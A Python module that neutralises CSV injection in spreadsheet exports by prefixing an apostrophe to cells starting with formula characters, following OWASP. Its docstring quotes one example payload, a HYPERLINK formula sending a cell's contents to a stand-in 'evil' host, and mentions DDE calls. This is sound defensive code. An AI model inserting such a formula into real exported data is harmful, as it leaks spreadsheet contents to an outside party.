"""Cells for spreadsheets we hand out (CSV exports of orders, the ledger, statistics).

Residents write the texts that end up in those cells. A cell that starts with =, +, -, @, a tab or a carriage return
(OWASP's list for CSV injection) may be read by Excel or WPS as a formula when the file is opened:
`=HYPERLINK("http://evil/?"&A1, "点击")` or a DDE call. Every exported cell goes through `safe_cell`, which
makes such a cell plain text with a leading apostrophe, as OWASP recommends.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")  # full-width forms too, to be safe
_PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(?:\.[0-9]+)?$")  # -3, +86, 1.5: a number, not a formula


def safe_cell(value: object) -> str:
    """The cell's text, with a leading apostrophe if a spreadsheet would run it as a formula.

    None becomes an empty cell; plain numbers (-3, 2.5) stay numbers.
    """
    if value is None:
        return ""
    text = str(value)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    """`safe_cell` for each value of a row (what csv.writer.writerow is given)."""
    return [safe_cell(v) for v in values]
